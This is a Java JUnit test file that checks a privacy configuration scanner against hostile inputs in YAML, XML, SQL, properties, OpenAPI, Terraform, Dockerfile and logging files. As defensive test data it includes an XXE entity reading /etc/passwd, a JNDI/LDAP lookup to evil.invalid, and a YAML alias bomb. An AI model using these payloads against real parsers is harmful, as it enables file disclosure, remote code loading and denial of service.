package org.privacyascode.config;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.privacyascode.code.CodeBase;
import org.privacyascode.fact.Coverage.Skipped;
import org.privacyascode.fact.Coverage.Unreadable;
import org.privacyascode.fact.Fact;
import org.privacyascode.fact.FactKind;
import org.privacyascode.fact.Facts;
import org.privacyascode.knowledge.Names;
import org.privacyascode.policy.vendor.Vendors;

/** Inputs made to break readers: each ends as read, unreadable with a place and a reason, or skipped by a named rule. */
final class NastyConfigurationTest {
    private static final Vendors VENDORS = Vendors.load();
    private static final Names NAMES = Names.load();

    @TempDir
    Path root;

    private Facts scan() {
        return ConfigurationScan.run(
                new CodeBase(List.of(), List.of(root), List.of(), List.of(), Optional.of(root)), VENDORS, NAMES);
    }

    private Facts scan(String file, String text) throws IOException {
        write(file, text);
        return scan();
    }

    private void write(String file, String text) throws IOException {
        Path path = root.resolve(file);
        Files.createDirectories(path.getParent());
        Files.writeString(path, text);
    }

    private static List<String> recipients(Facts facts) {
        return facts.stream()
                .map(fact -> fact.target().recipient())
                .filter(each -> !each.isEmpty())
                .toList();
    }

    private static void isUnreadable(Facts facts, int line, String reason) {
        assertThat(facts.coverage().filesRead()).isZero();
        assertThat(facts.coverage().unreadable()).singleElement().satisfies(each -> {
            assertThat(each.line()).isEqualTo(line);
            assertThat(each.reason()).contains(reason);
        });
    }

    @Test
    void an_unfiltered_value_is_unreadable_with_a_hint() throws IOException {
        isUnreadable(
                scan("src/main/resources/application.yml", "spring:\n  profiles:\n    active: @active.profile@\n"),
                3,
                "the build fills in");
    }

    @Test
    void every_document_of_a_yaml_file_counts() throws IOException {
        Facts facts = scan(
                "application.yml",
                "---\nspring.mail.host: smtp.mailgun.org\n---\nspring.config.activate.on-profile: eu\nspring.mail.host: smtp.postmarkapp.com\n");
        assertThat(recipients(facts)).containsExactly("mailgun", "postmark");
        assertThat(facts.all().get(1).attributes()).containsEntry("profile", "eu");
    }

    @Test
    void aliases_that_multiply_are_unreadable() throws IOException {
        StringBuilder bomb = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 60; i++) {
            bomb.append("a%d: &a%d [%s]\n"
                    .formatted(i, i, String.join(", ", java.util.Collections.nCopies(10, "*a" + (i - 1)))));
        }
        assertThat(scan("application.yml", bomb.toString()).coverage().unreadable())
                .extracting(Unreadable::reason)
                .containsExactly("more than 500 aliases");
    }

    @Test
    void an_alias_that_contains_itself_is_unreadable() throws IOException {
        isUnreadable(scan("application.yml", "a: &a [*a]\n"), 1, "alias");
    }

    @Test
    void entities_are_neither_expanded_nor_fetched() throws IOException {
        Facts facts = scan(
                "logback.xml",
                "<!DOCTYPE c [<!ENTITY a SYSTEM \"file:///etc/passwd\"><!ENTITY b \"&a;&a;\">]>\n<configuration>&b;</configuration>\n");
        isUnreadable(facts, 2, "entity");
    }

    @Test
    void a_document_type_with_an_address_is_read_without_fetching_it() throws IOException {
        Facts facts = scan(
                "WEB-INF/web.xml",
                "<?xml version=\"1.0\"?>\n<!DOCTYPE web-app PUBLIC \"-//X//EN\" \"http://dtd.invalid/x.dtd\">\n"
                        + "<web-app><session-config><session-timeout>30</session-timeout></session-config></web-app>\n");
        assertThat(facts.all()).singleElement().satisfies(fact -> {
            assertThat(fact.attributes()).containsEntry("idle", "PT30M");
            assertThat(fact.place().line()).isEqualTo(3);
        });
    }

    @Test
    void xml_that_is_not_one_tree_is_unreadable() throws IOException {
        write("a/logback.xml", "");
        write("b/logback.xml", "<configuration/><configuration/>");
        write("c/logback.xml", "<configuration>\u0007</configuration>");
        write("d/logback.xml", "<configuration><#if x><a/></#if></configuration>");
        assertThat(scan().coverage().unreadable()).hasSize(4).allMatch(each -> each.line() >= 1);
    }

    @Test
    void xml_with_too_many_attributes_is_unreadable() throws IOException {
        StringBuilder text = new StringBuilder("<configuration");
        for (int i = 0; i < 20_000; i++) {
            text.append(" a").append(i).append("='x'");
        }
        write("b/logback.xml", "<" + "n".repeat(2_000_000) + "/>");
        assertThat(scan("logback.xml", text + "/>").coverage().unreadable()).hasSize(2);
    }

    @Test
    void xml_in_another_encoding_than_it_names_is_unreadable() throws IOException {
        isUnreadable(scan("logback.xml", "<?xml version='1.0' encoding='UTF-16'?><configuration/>"), 1, "encoding");
        isUnreadable(scan("logback.xml", "<?xml version='1.0' encoding='UTF-7'?><configuration/>"), 1, "encoding");
        Files.write(
                root.resolve("logback.xml"),
                "\uFEFF<?xml version='1.0' encoding='UTF-16'?><configuration/>".getBytes(StandardCharsets.UTF_16BE));
        assertThat(scan().coverage().unreadable()).isEmpty();
    }

    @Test
    void a_table_whose_parenthesis_stays_open_is_unreadable_at_its_place() throws IOException {
        Facts facts = scan(
                "schema.sql",
                "CREATE TABLE members (email text);\nCREATE TABLE orders (phone text, (amount int);\nSELECT (1;\n"
                        + "CREATE TABLE copies AS SELECT email FROM members;\n");
        assertThat(facts.coverage().unreadable()).singleElement().satisfies(each -> {
            assertThat(each.line()).isEqualTo(2);
            assertThat(each.reason()).contains("parenthesis");
        });
        assertThat(facts.all()).extracting(fact -> fact.target().store()).contains("members.email");
    }

    @Test
    void a_value_of_a_megabyte_is_read() throws IOException {
        Facts facts = scan(
                "application.properties", "text=" + "x".repeat(1_000_000) + "\nspring.mail.host=smtp.mailgun.org\n");
        assertThat(recipients(facts)).containsExactly("mailgun");
    }

    @Test
    void deep_xml_is_refused_and_wide_xml_is_read() throws IOException {
        isUnreadable(scan("logback.xml", "<configuration>" + "<a>".repeat(200_000)), 1, "deeper");
        assertThat(scan("logback.xml", "<configuration>" + "<a/>".repeat(200_000) + "</configuration>")
                        .coverage()
                        .unreadable())
                .isEmpty();
    }

    @Test
    void scripts_are_seen_however_they_are_written() throws IOException {
        Facts facts = scan(
                "page.html",
                "<base href='https://static.hotjar.com/'>\n<script src=//js.stripe.com/v3></script>\n"
                        + "<noscript><img src='https://www.facebook.com/tr?id=1'></noscript>\n"
                        + "<img src='data:image/png;base64,AAAA'>\n<script src='blob:x'></script>\n<script src='c/hotjar-1.js'></script>\n");
        assertThat(recipients(facts)).containsExactly("stripe", "meta-pixel-facebook-login", "hotjar");
    }

    @Test
    void comments_never_count_in_any_engine() throws IOException {
        String script = "<script src='https://js.stripe.com/v3'></script>";
        write("a.html", "<!-- " + script + " --><!--[if lt IE 9]>" + script + "<![endif]-->");
        write("b.jsp", "<%-- " + script + " --%>");
        write("c.hbs", "{{!-- " + script + " --}}");
        write("d.vm", "#** " + script + " *#\n#* " + script + " *#");
        write("e.ftl", "<#-- " + script + " -->");
        write("f.js", "// fetch('https://js.stripe.com')\n/* fetch('https://js.stripe.com') */");
        write("g.sql", "-- CREATE TABLE users (email text);\n/* CREATE TABLE users (email text); */");
        write("h.yml", "# spring.mail.host: smtp.mailgun.org\n");
        write("i.properties", "! spring.mail.host=smtp.mailgun.org\n");
        write("j.tf", "# region = \"eu-central-1\"\n/* region = \"eu-central-1\" */");
        write("k.proto", "// message User { string email = 1; }\nmessage M { /* string email = 1; */ }");
        write(
                "l.graphql",
                "# type User { email: String }\n\"\"\" type User { email: String } \"\"\"\ntype A { b: Int }");
        write("Dockerfile", "# ENV SPRING_MAIL_HOST=smtp.mailgun.org\n");
        write("build.gradle", "// implementation 'com.stripe:stripe-java:1'\n");
        Facts facts = scan();
        assertThat(facts.all()).isEmpty();
        assertThat(facts.coverage().filesRead()).isEqualTo(14);
    }

    @Test
    void sql_is_split_whatever_stands_in_it() throws IOException {
        Facts facts = scan(
                "schema.sql",
                "/*!40101 SET NAMES utf8 */;\n\\connect shop\nCREATE FUNCTION f() RETURNS text AS $tag$ CREATE TABLE no (email text); $tag$;\n"
                        + "INSERT INTO t VALUES ('a; CREATE TABLE no2 (email text);', 'it''s');\nDELIMITER //\nCREATE PROCEDURE p() BEGIN SELECT 1; END //\nDELIMITER ;\n"
                        + "CREATE TABLE [dbo].[Users] ([Email] nvarchar(100))\nGO\nCREATE TABLE `customers` (`phone` text); # end\n");
        assertThat(facts.all())
                .extracting(fact -> fact.target().store())
                .containsExactly("Users.Email", "customers.phone");
    }

    @Test
    void properties_are_read_as_java_reads_them() throws IOException {
        Files.write(
                root.resolve("application.properties"),
                "\uFEFF! comment\nspring.mail.\\\n   host : smtp.mail\\u0067un.org\nspring.datasource.url jdbc:postgresql://shop.abc.eu-west-1.rds.amazonaws.com/x\na\\=b=https://api.stripe.com\n"
                        .getBytes(StandardCharsets.UTF_8));
        assertThat(recipients(scan())).containsExactly("mailgun", "amazon-rds-dynamodb", "stripe");
    }

    @Test
    void an_escape_that_is_none_is_unreadable_at_its_place() throws IOException {
        isUnreadable(scan("application.properties", "a=1\nb=\\u12xy\n"), 2, "escape");
    }

    @Test
    void placeholders_are_filled_and_never_evaluated() throws IOException {
        Facts facts = scan(
                "application.properties",
                "a.url=${A:${B:-https://api.stripe.com}}\nspring.mail.host=#{systemProperties['x']}\nspring.redis.host=${REDIS:?must be set}\nspring.rabbitmq.host=%{x}\n");
        assertThat(recipients(facts)).containsExactly("stripe");
        assertThat(facts.all())
                .filteredOn(fact -> fact.attributes().containsKey("host-from"))
                .extracting(fact -> fact.attributes().get("key"))
                .containsExactly("spring.mail.host", "spring.redis.host");
    }

    @Test
    void references_in_an_api_end_and_are_never_fetched() throws IOException {
        Facts facts = scan(
                "openapi.yaml",
                "openapi: 3.0.0\npaths:\n  /a:\n    post:\n      requestBody: {content: {application/json: {schema: {$ref: '#/components/schemas/User'}}}}\n"
                        + "components:\n  schemas:\n    User:\n      properties:\n        email: {type: string}\n        friend: {$ref: '#/components/schemas/User'}\n"
                        + "        other: {$ref: 'http://schema.invalid/x.json'}\n        file: {$ref: 'file:///etc/passwd'}\n");
        assertThat(facts.all()).singleElement().satisfies(fact -> {
            assertThat(fact.kind()).isEqualTo(FactKind.COLLECTED);
            assertThat(fact.data().category()).isEqualTo("contact.email");
        });
    }

    @Test
    void json_that_is_cut_off_or_says_a_key_twice_is_unreadable() throws IOException {
        write("a/openapi.json", "{\"openapi\": \"3.0\", /* as tools write it */ \"x\": 1,}");
        write("b/openapi.json", "{\"openapi\": \"3.0\", \"x\": \"unclosed");
        write("c/openapi.json", "{\"openapi\": \"3.0\", \"openapi\": \"3.0\"}");
        write("d/openapi.json", "{\"openapi\": \"3.0\", \"x\": 1e999, \"y\": \"\\uD800\"}");
        assertThat(scan().coverage().unreadable())
                .extracting(Unreadable::file)
                .containsExactly("b/openapi.json", "c/openapi.json");
    }

    @Test
    void fields_of_schemas_are_told_from_words_around_them() throws IOException {
        write(
                "user.proto",
                "syntax = \"proto3\";\nimport \"missing.proto\";\nmessage CreateUserRequest {\n  reserved 2, 15; reserved \"email\";\n  map<string, string> tags = 1;\n"
                        + "  message Inner { string phone_number = 1; }\n  string first_name = 3; // string last_name = 4;\n}\n");
        write(
                "user.avsc",
                "{\"type\": \"record\", \"name\": \"UserRequest\", \"fields\": [{\"name\": \"email\", \"type\": [\"null\", \"string\"]}, {\"name\": \"address\", \"type\": \"com.acme.Address\"}]}");
        assertThat(scan().all())
                .extracting(fact -> fact.data().category())
                .contains("identity.name.first", "contact.email")
                .doesNotContain("identity.name.last");
    }

    @Test
    void what_a_terraform_block_does_not_make_is_no_fact() throws IOException {
        Facts facts = scan(
                "main.tf",
                "resource \"aws_db_instance\" \"a\" {\n  count = 0\n  backup_retention_period = 9\n}\n"
                        + "resource \"aws_db_instance\" \"b\" {\n  user_data = <<-EOT\n    backup_retention_period = 8\n  EOT\n  backup_retention_period = 7\n}\n"
                        + "resource \"aws_db_instance\" \"c\" {\n  backup_retention_period = var.days\n}\n");
        assertThat(facts.all())
                .extracting(fact -> fact.attributes().get("period"))
                .containsExactly("P7D");
    }

    @Test
    void a_dockerfile_gives_values_in_every_spelling() throws IOException {
        Facts facts = scan(
                "Dockerfile",
                "ARG BASE=eclipse\nFROM $BASE AS one\nENV A=b \\\n    SPRING_MAIL_HOST=smtp.mailgun.org \\\n    C='d'\nFROM one\nENV STRIPE_URL https://api.stripe.com\n");
        assertThat(recipients(facts)).containsExactly("mailgun", "stripe");
    }

    @Test
    void logging_is_read_without_running_conditions_or_lookups() throws IOException {
        write(
                "a/logback.xml",
                "<configuration>\n<include resource=\"missing.xml\"/>\n<if condition='property(\"x\").equals(\"y\")'><then>\n"
                        + "<appender name=\"A\" class=\"ch.qos.logback.core.ConsoleAppender\"><encoder><pattern>%replace(%X{email}){'a','b'} %mdc{username:-none}</pattern></encoder></appender>\n</then></if>\n</configuration>\n");
        write(
                "b/log4j2.xml",
                "<Configuration><Appenders><Console name=\"A\"><PatternLayout pattern=\"${jndi:ldap://evil.invalid/a} $${ctx:userName} %m\"/></Console></Appenders></Configuration>\n");
        assertThat(scan().all())
                .filteredOn(fact -> fact.kind() == FactKind.LOGGED)
                .extracting(fact -> fact.data().category())
                .containsExactly("", "contact.email", "identity.username", "identity.username");
    }

    @Test
    void a_large_minified_script_is_skipped_by_name_of_the_rule() throws IOException {
        Facts facts = scan("app.js", "var a=\"" + "x".repeat(5_000_000) + "\";fetch('https://api.stripe.com')");
        assertThat(facts.coverage().skipped()).extracting(Skipped::rule).containsExactly("minified script");
        assertThat(facts.all()).isEmpty();
    }

    @Test
    void a_cookie_whose_name_is_made_at_run_time_is_kept_and_a_deleted_one_is_not() throws IOException {
        Facts facts = scan(
                "cookies.js",
                "document.cookie = n + '=' + v;\ndocument.cookie = 'old=; expires=Thu, 01 Jan 1970 00:00:00 GMT';\ndocument.cookie = 'old=; Max-Age=0';\n"
                        + "document.cookie = `lang=${lang}; max-age=86400`;\nif (document.cookie == 'x') { }\n");
        assertThat(facts.all())
                .extracting(fact -> fact.evidence().certainty().word() + " " + fact.attributes())
                .containsExactly("undetermined {}", "fact {max-age=P1D, name=lang}");
    }

    @Test
    void words_that_contain_other_words_do_not_count() throws IOException {
        assertThat(scan(
                                "application.properties",
                                "mail.starttls.enable=true\nthrottle.period=10s\nsettlement.days=3\nbody_stripe_color=grey\nkafka.segment.bytes=10\nbattle.ttl-name=x\n")
                        .all())
                .isEmpty();
    }

    @Test
    void names_of_files_may_be_anything() throws IOException {
        write("Ünï \"code\"; \uD83D\uDE00.properties", "spring.mail.host=smtp.mailgun.org\n");
        write("line\nbreak.properties", "spring.mail.host=smtp.mailgun.org\n");
        write("a/b".repeat(100) + "/application.properties", "spring.mail.host=smtp.mailgun.org\n");
        write("A.yml", "spring.mail.host: smtp.mailgun.org\n");
        write("a.yml", "spring.mail.host: smtp.mailgun.org\n");
        Facts facts = scan();
        assertThat(facts.all()).hasSize(5);
        assertThat(facts.all()).extracting(fact -> fact.place().file()).startsWith("A.yml");
    }

    @Test
    void a_loop_of_links_ends() throws IOException {
        Files.createDirectories(root.resolve("a/b"));
        Files.createSymbolicLink(root.resolve("a/b/c"), root.resolve("a"));
        write("a/application.properties", "spring.mail.host=smtp.mailgun.org\n");
        assertThat(scan().all()).hasSize(1);
    }

    @Test
    void no_secret_of_any_format_is_part_of_a_fact() throws IOException {
        String secret = "topsecret0123456789";
        write(
                "log4j2.yaml",
                "Configuration:\n  Appenders:\n    Socket: {host: logs.unknown-host.net, password: " + secret + "}\n");
        write(
                "application.conf",
                "stripe { url = \"https://" + secret + "@api.stripe.com/\", key = \"" + secret + "\" }\n");
        write(
                "templates/a.yaml",
                "apiVersion: v1\nkind: Secret\nname: {{ .x }}\nlist: {{- toYaml .y }}\nstringData:\n  STRIPE_API_KEY: "
                        + secret + "\n");
        write(".env", "OPENAI_API_KEY=" + secret + "\n");
        write("main.tf", "variable \"a\" {\n  stripe_api_key = \"" + secret + "\"\n}\n");
        write("App.tsx", "fetch('https://user:" + secret + "@api.unknown-host.net/x?token=" + secret + "');\n");
        write(
                "logback.groovy",
                "appender(\"S\", SocketAppender) { remoteHost = \"https://u:" + secret
                        + "@logs.unknown-host.net\" }\n");
        Facts facts = scan();
        assertThat(facts.all().stream().map(Fact::target).filter(each -> !each.host()
                        .isEmpty()))
                .isNotEmpty();
        assertThat(facts.toString()).doesNotContain(secret);
    }
}
